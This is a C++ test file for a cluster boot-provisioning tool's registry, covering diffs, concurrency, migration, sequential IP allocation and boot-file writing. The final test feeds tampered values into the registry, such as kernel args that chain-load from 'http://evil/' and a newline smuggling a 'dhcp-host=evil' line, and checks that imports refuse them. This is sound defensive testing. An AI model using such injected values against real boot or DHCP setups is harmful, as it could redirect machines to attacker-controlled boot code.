// The node registry in the catalogue: diff, apply, read back, optimistic
// concurrency, the schema 2 -> 3 migration, and sequential address allocation
// that stays stable across applies. Also the per-node writer's incremental
// rewrite and stale-file removal.
#include <doctest/doctest.h>

#include <algorithm>

#include "cluster_test_util.h"
#include "dim/catalog.h"
#include "dim/cluster/generate.h"
#include "dim/cluster/load.h"
#include "dim/cluster/registry.h"
#include "test_util.h"

namespace dim::cluster {
namespace {

using dimtest::TempDir;
using testing::NodeXml;
using testing::SmallXml;

Cluster MustLoad(const std::string& xml, const PriorAddresses& prior = {}) {
  LoadResult r = LoadClusterFromString(xml, "c.xml", prior);
  REQUIRE_MESSAGE(r.ok(), r.ToStatus().ToString());
  return std::move(r.cluster);
}

std::string Sequential(const std::string& xml) {
  std::string out = xml;
  const std::string base = "node-base=\"10.0.0.100\"";
  out.replace(out.find(base), base.size(), base + " allocation=\"sequential\"");
  return out;
}

// A node with an explicit name (no position), served by ss1.
std::string NamedNode(const std::string& name, int mac_last, const std::string& itf_attrs = "") {
  char mac[32];
  std::snprintf(mac, sizeof mac, "52:54:00:99:00:%02x", mac_last);
  return "    <node name=\"" + name + "\" server=\"ss1\"><interface network=\"boot\" mac=\"" + mac +
         "\"" + itf_attrs + "/></node>\n";
}

std::string Ip(const Cluster& c, const std::string& node) {
  const Node* n = c.FindNode(node);
  REQUIRE_MESSAGE(n != nullptr, "no node " << node);
  return n->boot().ip.ToString();
}

struct Fixture {
  TempDir dir;
  std::unique_ptr<Catalog> catalog;
  Fixture() {
    auto c = Catalog::Open(dir / "catalog.db");
    REQUIRE_MESSAGE(c.ok(), c.status().ToString());
    catalog = std::move(*c);
  }
  Registry registry() { return Registry(catalog->db()); }
  RegistrySnapshot Load() {
    auto s = registry().Load();
    REQUIRE_MESSAGE(s.ok(), s.status().ToString());
    return std::move(*s);
  }
  // The whole `cluster apply` sequence; returns the diff it applied.
  RegistryDiff Apply(const std::string& xml) {
    RegistrySnapshot before = Load();
    Cluster after = MustLoad(xml, AddressesOf(before.cluster));
    RegistryDiff diff = DiffClusters(before.cluster, after);
    Status s = registry().Apply(after, diff, before.generation, 42);
    REQUIRE_MESSAGE(s.ok(), s.ToString());
    return diff;
  }
};

const RegistryChange* FindChange(const RegistryDiff& d, const std::string& what,
                                 const std::string& name) {
  for (const auto& c : d.changes) {
    if (c.what == what && c.name == name) return &c;
  }
  return nullptr;
}

TEST_CASE("registry: an exported registry imports identical elsewhere; damage changes nothing") {
  Fixture top, leaf;
  std::string xml = SmallXml(NodeXml(1, 1, " group=\"g\"") + NodeXml(1, 2, "", " ip=\"10.0.0.50\"") +
                                 NodeXml(2, 1, " kernel-args=\"debug\""),
                             R"(<group name="g" image="other" kernel-args="quiet"><keepout path="/scratch"/></group>)");
  top.Apply(xml);
  top.Apply(xml + " ");  // generation 2
  auto body = top.registry().Export();
  REQUIRE(body.ok());
  // A truncated or altered body is refused before anything changes.
  leaf.Apply(SmallXml(NodeXml(1, 1, "")));
  for (size_t cut : {size_t{0}, size_t{8}, body->size() / 2, body->size() - 1}) {
    CHECK_FALSE(leaf.registry().Import(body->substr(0, cut)).ok());
  }
  // A hostile parent adding a line to a node's kernel arguments (boot scripts
  // are line based) is refused whole too.
  std::string injected = *body;
  size_t at = injected.find("debug");
  REQUIRE(at != std::string::npos);
  injected.replace(at, 5, "x\nkrn");
  auto refused = leaf.registry().Import(injected);
  CHECK(refused.code() == dim::Code::kCorruption);
  CHECK(refused.message().find("kernel-args 'x\\nkrn' ") != std::string::npos);  // the field, the value escaped
  CHECK(leaf.Load().cluster.nodes.size() == 1);
  REQUIRE(leaf.registry().Import(*body).ok());
  RegistrySnapshot a = top.Load(), b = leaf.Load();
  CHECK(b.generation == a.generation);
  CHECK(*leaf.registry().Generation() == 2);
  CHECK(FormatDiff(DiffClusters(a.cluster, b.cluster)) == "");
  CHECK(b.cluster.nodes.size() == 3);
  CHECK(b.cluster.FindNode("r01c1n01")->keepout == std::vector<std::string>{"/scratch"});
  CHECK(*Fixture().registry().Generation() == 0);
}

TEST_CASE("registry: rekey moves key generations on, travels to leaves, outlives removal") {
  Fixture top, leaf;
  top.Apply(SmallXml(NodeXml(1, 1) + NodeXml(1, 2)));
  CHECK(*top.registry().KeyGeneration("r01c1n01") == 0);
  CHECK(*top.registry().KeyGeneration("never-registered") == 0);
  auto g = top.registry().Rekey({"r01c1n01", "r01c1n02"}, 7);
  REQUIRE_MESSAGE(g.ok(), g.status().ToString());
  CHECK(*g == std::vector<int64_t>{1, 1});
  g = top.registry().Rekey({"r01c1n01"}, 8);
  REQUIRE(g.ok());
  CHECK(*g == std::vector<int64_t>{2});
  // A rekey counts as an apply, so second-level servers copy the registry.
  CHECK(*top.registry().Generation() == 3);
  // An unregistered node changes nothing, not even the nodes before it.
  auto bad = top.registry().Rekey({"r01c1n02", "nosuch"}, 9);
  CHECK(bad.status().code() == Code::kNotFound);
  CHECK(bad.status().message().find("nosuch") != std::string::npos);
  CHECK(*top.registry().KeyGeneration("r01c1n02") == 1);
  CHECK(*top.registry().Generation() == 3);

  auto body = top.registry().Export();
  REQUIRE(body.ok());
  REQUIRE(leaf.registry().Import(*body).ok());
  CHECK(*leaf.registry().KeyGeneration("r01c1n01") == 2);
  CHECK(*leaf.registry().KeyGeneration("r01c1n02") == 1);

  // Removing a node and registering it again never brings a retired key back.
  top.Apply(SmallXml(NodeXml(1, 2)));
  top.Apply(SmallXml(NodeXml(1, 1) + NodeXml(1, 2)));
  CHECK(*top.registry().KeyGeneration("r01c1n01") == 2);
}

TEST_CASE("registry: an applied cluster reads back identical, and re-applying changes nothing") {
  Fixture f;
  RegistrySnapshot empty = f.Load();
  CHECK_FALSE(empty.registered);
  CHECK(empty.cluster.nodes.empty());

  std::string xml = SmallXml(NodeXml(1, 1, " group=\"g\"") + NodeXml(1, 2, "", " ip=\"10.0.0.50\"") +
                                 NodeXml(2, 1, " kernel-args=\"debug\""),
                             R"(<group name="g" image="other" kernel-args="quiet"><keepout path="/scratch"/></group>)");
  RegistryDiff first = f.Apply(xml);
  CHECK(first.Count("node", RegistryChange::kAdded) == 3);
  CHECK(first.Count("group", RegistryChange::kAdded) == 1);
  CHECK(first.Count("site", RegistryChange::kAdded) == 1);

  RegistrySnapshot snap = f.Load();
  CHECK(snap.registered);
  CHECK(snap.generation == 1);
  CHECK(snap.applied_ns == 42);
  Cluster file = MustLoad(xml);
  // Everything the node commands and generators read survives the round trip.
  CHECK(FormatDiff(DiffClusters(snap.cluster, file)) == "");
  const Node* n = snap.cluster.FindNode("r01c1n01");
  REQUIRE(n);
  CHECK(n->group == "g");
  CHECK(n->image == "other");
  CHECK(n->keepout == std::vector<std::string>{"/scratch"});
  CHECK(n->server == "ss1");
  CHECK(n->server_by_rack);
  CHECK(snap.cluster.FindNode("r01c1n02")->boot().ip_explicit);
  CHECK(snap.cluster.FindGroup("g")->keepout == std::vector<std::string>{"/scratch"});
  CHECK(GenerateDnsmasq(snap.cluster).value() == GenerateDnsmasq(file).value());
  CHECK(GenerateHosts(snap.cluster).value() == GenerateHosts(file).value());

  CHECK(f.Apply(xml).empty());
}

TEST_CASE("registry: one node's part reads as the whole registry has it, with the same boot script") {
  Fixture f;
  std::string xml = SmallXml(NodeXml(1, 1, " group=\"g\"") + NodeXml(1, 2, "", " ip=\"10.0.0.50\"") +
                                 NodeXml(2, 1, " kernel-args=\"debug\""),
                             R"(<group name="g" image="other" kernel-args="quiet"><keepout path="/scratch"/></group>)");
  f.Apply(xml);
  RegistrySnapshot all = f.Load();
  auto just = [](const Node& n) {
    Cluster c;
    c.name = "site";  // an unnamed site would diff as added
    c.nodes = {n};
    return c;
  };
  for (const auto& want : all.cluster.nodes) {
    auto one = f.registry().LoadNode(want.name);
    REQUIRE_MESSAGE(one.ok(), one.status().ToString());
    CHECK(one->generation == all.generation);
    REQUIRE(one->cluster.nodes.size() == 1);
    const Node& got = one->cluster.nodes[0];
    // The node's fields, as the diff compares them, and its boot script.
    CHECK(FormatDiff(DiffClusters(just(want), just(got))) == "");
    CHECK(got.keepout == want.keepout);
    CHECK(GenerateIpxeScript(one->cluster, got).value() == GenerateIpxeScript(all.cluster, want).value());
    CHECK(one->cluster.groups.empty());  // resolved into the node already
    auto by_mac = f.registry().NodeWithMac(want.boot().mac);
    REQUIRE(by_mac.ok());
    CHECK(*by_mac == want.name);
  }
  auto none = f.registry().LoadNode("r09c9n09");
  REQUIRE(none.ok());
  CHECK(none->cluster.nodes.empty());
  CHECK(*f.registry().NodeWithMac(*Mac::Parse("02:00:00:00:00:01")) == "");
}

TEST_CASE("registry: the diff names added, removed and changed nodes with each changed field") {
  Fixture f;
  f.Apply(SmallXml(NodeXml(1, 1) + NodeXml(1, 2) + NodeXml(1, 3)));
  // n02 leaves, n04 arrives, n03 changes image and MAC.
  std::string next = SmallXml(NodeXml(1, 1) +
                              "    <node rack=\"1\" chassis=\"1\" slot=\"3\" image=\"other\">"
                              "<interface network=\"boot\" mac=\"52:54:00:00:0a:0a\"/></node>\n" +
                              NodeXml(1, 4));
  RegistrySnapshot before = f.Load();
  RegistryDiff d = DiffClusters(before.cluster, MustLoad(next, AddressesOf(before.cluster)));
  CHECK(d.Count("node", RegistryChange::kAdded) == 1);
  CHECK(d.Count("node", RegistryChange::kRemoved) == 1);
  CHECK(d.Count("node", RegistryChange::kChanged) == 1);
  CHECK(d.changes.size() == 3);
  REQUIRE(FindChange(d, "node", "r01c1n02"));
  CHECK(FindChange(d, "node", "r01c1n02")->kind == RegistryChange::kRemoved);
  const RegistryChange* changed = FindChange(d, "node", "r01c1n03");
  REQUIRE(changed);
  REQUIRE(changed->fields.size() == 2);
  CHECK(changed->fields[0].field == "image");
  CHECK(changed->fields[0].before == "img");
  CHECK(changed->fields[0].after == "other");
  CHECK(changed->fields[1].field == "mac boot");
  CHECK(FormatDiff(d) ==
        "- node r01c1n02\n"
        "~ node r01c1n03: image img -> other; mac boot 52:54:00:00:01:03 -> 52:54:00:00:0a:0a\n"
        "+ node r01c1n04: ip boot 10.0.0.103\n");

  f.Apply(next);
  RegistrySnapshot after = f.Load();
  CHECK(after.generation == 2);
  std::vector<std::string> names;
  for (const auto& n : after.cluster.nodes) names.push_back(n.name);
  CHECK(names == std::vector<std::string>{"r01c1n01", "r01c1n03", "r01c1n04"});
  CHECK(after.cluster.FindNode("r01c1n03")->boot().mac.ToString() == "52:54:00:00:0a:0a");
  // Child rows of the removed node went with it.
  auto q = f.catalog->db().Prepare("SELECT count(*) FROM cluster_interfaces WHERE node = 'r01c1n02'");
  REQUIRE(q->Step());
  CHECK(q->Int(0) == 0);
}

TEST_CASE("registry: MACs and addresses may move between nodes in one apply") {
  Fixture f;
  f.Apply(SmallXml(NodeXml(1, 1, "", " ip=\"10.0.0.50\"") + NodeXml(1, 2, "", " ip=\"10.0.0.51\"")));
  // Swap both the MACs and the explicit addresses of the two nodes.
  std::string swapped = SmallXml(
      "    <node rack=\"1\" chassis=\"1\" slot=\"1\"><interface network=\"boot\" "
      "mac=\"52:54:00:00:01:02\" ip=\"10.0.0.51\"/></node>\n"
      "    <node rack=\"1\" chassis=\"1\" slot=\"2\"><interface network=\"boot\" "
      "mac=\"52:54:00:00:01:01\" ip=\"10.0.0.50\"/></node>\n");
  RegistryDiff d = f.Apply(swapped);
  CHECK(d.Count("node", RegistryChange::kChanged) == 2);
  Cluster back = f.Load().cluster;
  CHECK(back.FindNode("r01c1n01")->boot().mac.ToString() == "52:54:00:00:01:02");
  CHECK(Ip(back, "r01c1n01") == "10.0.0.51");
}

TEST_CASE("registry: a diff prepared against an older generation is refused") {
  Fixture f;
  std::string a = SmallXml(NodeXml(1, 1));
  f.Apply(a);
  RegistrySnapshot stale = f.Load();
  Cluster b = MustLoad(SmallXml(NodeXml(1, 1) + NodeXml(1, 2)));
  RegistryDiff d = DiffClusters(stale.cluster, b);
  f.Apply(SmallXml(NodeXml(1, 1) + NodeXml(1, 3)));  // someone else applies meanwhile
  Status s = f.registry().Apply(b, d, stale.generation, 1);
  CHECK(s.code() == Code::kConflict);
  CHECK(s.message().find("run it again") != std::string::npos);
  Cluster now = f.Load().cluster;
  CHECK(now.FindNode("r01c1n03") != nullptr);
  CHECK(now.FindNode("r01c1n02") == nullptr);
}

TEST_CASE("registry: a schema 2 catalogue is migrated to 3 with its images and an empty registry") {
  TempDir dir;
  std::string path = dir / "catalog.db";
  {
    auto v2 = Catalog::OpenAtVersion(path, 2);
    REQUIRE(v2.ok());
    REQUIRE((*v2)->CreateImage("old", "/m").ok());
    auto q = (*v2)->db().Prepare("SELECT name FROM sqlite_master WHERE name = 'cluster_nodes'");
    CHECK_FALSE(q->Step());
  }
  auto c = Catalog::Open(path);
  REQUIRE(c.ok());
  CHECK(Catalog::SchemaVersion() >= 3);
  auto v = (*c)->db().Prepare("PRAGMA user_version");
  REQUIRE(v->Step());
  CHECK(v->Int(0) == Catalog::SchemaVersion());
  CHECK((*c)->GetImage("old").ok());
  Registry reg((*c)->db());
  auto snap = reg.Load();
  REQUIRE(snap.ok());
  CHECK_FALSE(snap->registered);
  Cluster cl = MustLoad(SmallXml(NodeXml(1, 1)));
  REQUIRE(reg.Apply(cl, DiffClusters({}, cl), 0, 7).ok());
  CHECK(reg.Load()->cluster.nodes.size() == 1);
}

TEST_CASE("sequential: without a registry, addresses follow the file order around taken ones") {
  // n01 explicitly takes .101, so the others skip it; the dynamic range
  // (.200-.250) and server addresses are never handed out.
  Cluster c = MustLoad(Sequential(SmallXml(NodeXml(2, 4) + NodeXml(1, 1, "", " ip=\"10.0.0.101\"") +
                                           NodeXml(1, 2) + NodeXml(1, 3))));
  CHECK(Ip(c, "r01c2n04") == "10.0.0.100");
  CHECK(Ip(c, "r01c1n01") == "10.0.0.101");
  CHECK(Ip(c, "r01c1n02") == "10.0.0.102");
  CHECK(Ip(c, "r01c1n03") == "10.0.0.103");
  // The formula would have given r01c2n04 10.0.0.107.
  Cluster by_position = MustLoad(SmallXml(NodeXml(2, 4)));
  CHECK(Ip(by_position, "r01c2n04") == "10.0.0.107");
}

TEST_CASE("sequential: apply, remove a node, add two, apply: nobody else is renumbered") {
  Fixture f;
  std::string nodes = NodeXml(1, 1) + NodeXml(1, 2) + NodeXml(1, 3) + NodeXml(1, 4);
  f.Apply(Sequential(SmallXml(nodes)));
  Cluster first = f.Load().cluster;
  CHECK(Ip(first, "r01c1n01") == "10.0.0.100");
  CHECK(Ip(first, "r01c1n02") == "10.0.0.101");
  CHECK(Ip(first, "r01c1n04") == "10.0.0.103");

  // r01c1n02 leaves; two nodes arrive, listed *first* in the file, which
  // without the registry would renumber everybody.
  std::string next = Sequential(SmallXml(NamedNode("fresh-a", 1) + NamedNode("fresh-b", 2) +
                                         NodeXml(1, 1) + NodeXml(1, 3) + NodeXml(1, 4)));
  RegistryDiff d = f.Apply(next);
  CHECK(d.Count("node", RegistryChange::kChanged) == 0);
  Cluster second = f.Load().cluster;
  CHECK(Ip(second, "r01c1n01") == "10.0.0.100");
  CHECK(Ip(second, "r01c1n03") == "10.0.0.102");
  CHECK(Ip(second, "r01c1n04") == "10.0.0.103");
  // The freed .101 is the lowest free address: the first new node gets it.
  CHECK(Ip(second, "fresh-a") == "10.0.0.101");
  CHECK(Ip(second, "fresh-b") == "10.0.0.104");
  // Without the registry the same file would renumber: that is the point.
  Cluster no_registry = MustLoad(next);
  CHECK(Ip(no_registry, "r01c1n01") == "10.0.0.102");

  // Applying the same file again is a no-op: the allocations are stable.
  CHECK(f.Apply(next).empty());
}

TEST_CASE("sequential: an explicit ip= wins over a persisted allocation, which moves") {
  Fixture f;
  f.Apply(Sequential(SmallXml(NodeXml(1, 1) + NodeXml(1, 2))));
  // r01c1n03 claims .101, which r01c1n02 had.
  RegistryDiff d = f.Apply(
      Sequential(SmallXml(NodeXml(1, 1) + NodeXml(1, 2) + NodeXml(1, 3, "", " ip=\"10.0.0.101\""))));
  const RegistryChange* moved = FindChange(d, "node", "r01c1n02");
  REQUIRE(moved);
  REQUIRE(moved->fields.size() == 1);
  CHECK(moved->fields[0].field == "ip boot");
  CHECK(moved->fields[0].before == "10.0.0.101");
  CHECK(moved->fields[0].after == "10.0.0.102");
  Cluster c = f.Load().cluster;
  CHECK(Ip(c, "r01c1n01") == "10.0.0.100");
  CHECK(Ip(c, "r01c1n03") == "10.0.0.101");
}

TEST_CASE("sequential: an exhausted pool is reported at the network") {
  // From .248 the pool skips the dynamic range .200-.250: .251-.254 are four.
  std::string xml = SmallXml(NodeXml(1, 1) + NodeXml(1, 2) + NodeXml(1, 3) + NodeXml(1, 4) +
                             NodeXml(2, 1));
  std::string base = "node-base=\"10.0.0.100\"";
  xml.replace(xml.find(base), base.size(), "node-base=\"10.0.0.248\" allocation=\"sequential\"");
  LoadResult r = LoadClusterFromString(xml, "c.xml");
  REQUIRE(r.diagnostics.size() == 1);
  const Diagnostic& d = r.diagnostics[0];
  CHECK(d.element == "network");
  CHECK(d.where.line == 3);
  CHECK(d.problem.find("address space exhausted") != std::string::npos);
  CHECK(d.problem.find("1 more interface(s), the first of node 'r01c2n01'") != std::string::npos);
}

TEST_CASE("sequential: an unknown allocation is an error naming both choices") {
  std::string xml = SmallXml(NodeXml(1, 1));
  std::string base = "node-base=\"10.0.0.100\"";
  xml.replace(xml.find(base), base.size(), base + " allocation=\"random\"");
  LoadResult r = LoadClusterFromString(xml, "c.xml");
  REQUIRE(r.diagnostics.size() == 1);
  CHECK(r.diagnostics[0].problem == "allocation 'random' is not known");
  CHECK(r.diagnostics[0].fix.find("sequential") != std::string::npos);
}

TEST_CASE("generate: per-node files are rewritten only when changed; stale ones of dim are removed") {
  TempDir dir;
  Cluster c = MustLoad(SmallXml(NodeXml(1, 1) + NodeXml(1, 2) + NodeXml(1, 3)));
  auto files = Generate(c, Format::kIpxe).value();
  auto first = WriteFilesAtomically(dir.path(), files);
  REQUIRE(first.ok());
  CHECK(first->written == 3);
  auto again = WriteFilesAtomically(dir.path(), files);
  REQUIRE(again.ok());
  CHECK(again->written == 0);
  CHECK(again->unchanged == 3);
  // A file an administrator put there, with a matching name, is not dim's.
  dimtest::WriteFile(dir / "mine.ipxe", "#!ipxe\nchain http://elsewhere/\n");
  dimtest::WriteFile(dir / "r01c1n03.ipxe", "edited by hand\n");

  Cluster smaller = MustLoad(SmallXml(NodeXml(1, 1) + NodeXml(1, 3, " image=\"other\"")));
  auto now = Generate(smaller, Format::kIpxe).value();
  auto third = WriteFilesAtomically(dir.path(), now);
  REQUIRE(third.ok());
  CHECK(third->written == 1);  // r01c1n03 changed
  CHECK(third->unchanged == 1);
  auto removed = RemoveStaleFiles(dir.path(), Format::kIpxe, now);
  REQUIRE(removed.ok());
  CHECK(*removed == std::vector<std::string>{"r01c1n02.ipxe"});
  CHECK(dimtest::ReadFile(dir / "mine.ipxe") == "#!ipxe\nchain http://elsewhere/\n");
  CHECK(dimtest::ReadFile(dir / "r01c1n03.ipxe") == now[1].content);

  // pxelinux names are recognised too, and other formats' files are left alone.
  auto px = Generate(c, Format::kPxelinux).value();
  REQUIRE(WriteFilesAtomically(dir.path(), px).ok());
  auto px_removed = RemoveStaleFiles(dir.path(), Format::kPxelinux, Generate(smaller, Format::kPxelinux).value());
  REQUIRE(px_removed.ok());
  CHECK(*px_removed == std::vector<std::string>{"01-52-54-00-00-01-02"});
  CHECK(dimtest::ReadFile(dir / "r01c1n01.ipxe") == now[0].content);
}

}  // namespace
}  // namespace dim::cluster

namespace dim::cluster {
namespace {

// A parent's registry never went through the loader: a value that would add a
// command to a boot script or a line to a DHCP file is refused when the copy
// is imported, and nothing changes; a registry damaged in place is refused
// when a boot script is built from it.
TEST_CASE("registry: a copy carrying an injected value is refused, and no script is built from one") {
  struct Tamper {
    const char* sql;
    const char* field;
  };
  const Tamper tampers[] = {
      {"UPDATE cluster_nodes SET kernel_args = 'quiet || shell' WHERE name = 'r01c1n01'", "kernel-args"},
      {"UPDATE cluster_nodes SET kernel_args = 'quiet' || char(10) || 'chain http://evil/' WHERE name = 'r01c1n01'",
       "kernel-args"},
      {"UPDATE cluster_servers SET boot_url = 'http://evil/\"; x' WHERE name = 'ss1'", "boot-url"},
      {"UPDATE cluster_images SET kernel = 'vmlinuz initrd=http://evil/i' WHERE name = 'img'", "kernel"},
      {"UPDATE cluster_interfaces SET hostname = 'r01c1n01' || char(10) || 'dhcp-host=evil'", "host name"},
      {"UPDATE cluster_site SET domain = 'x;y'", "domain"},
  };
  for (const auto& t : tampers) {
    INFO(t.sql);
    Fixture top, leaf;
    std::string xml = SmallXml(NodeXml(1, 1) + NodeXml(1, 2));
    top.Apply(xml);
    leaf.Apply(SmallXml(NodeXml(2, 1)));
    REQUIRE(top.catalog->db().Exec(t.sql).ok());
    auto body = top.registry().Export();
    REQUIRE(body.ok());
    Status s = leaf.registry().Import(*body);
    REQUIRE_FALSE(s.ok());
    CHECK(s.message().starts_with("registry from the parent server: "));
    CHECK(s.message().find(std::string(t.field) + " '") != std::string::npos);
    CHECK(s.message().find('\n') == std::string::npos);
    // The leaf keeps what it had.
    RegistrySnapshot kept = leaf.Load();
    REQUIRE(kept.cluster.nodes.size() == 1);
    CHECK(kept.cluster.nodes[0].name == "r01c2n01");
    // imaged builds boot scripts from its registry: the damaged one gives none
    // for a node whose values it would copy.
    RegistrySnapshot bad = top.Load();
    bool refused = false;
    for (const auto& n : bad.cluster.nodes) refused |= !GenerateIpxeScript(bad.cluster, n).ok();
    CHECK(refused == (std::string(t.field) != "host name" && std::string(t.field) != "domain"));
    CHECK_FALSE(GenerateDnsmasq(bad.cluster).ok());
  }
}

}  // namespace
}  // namespace dim::cluster
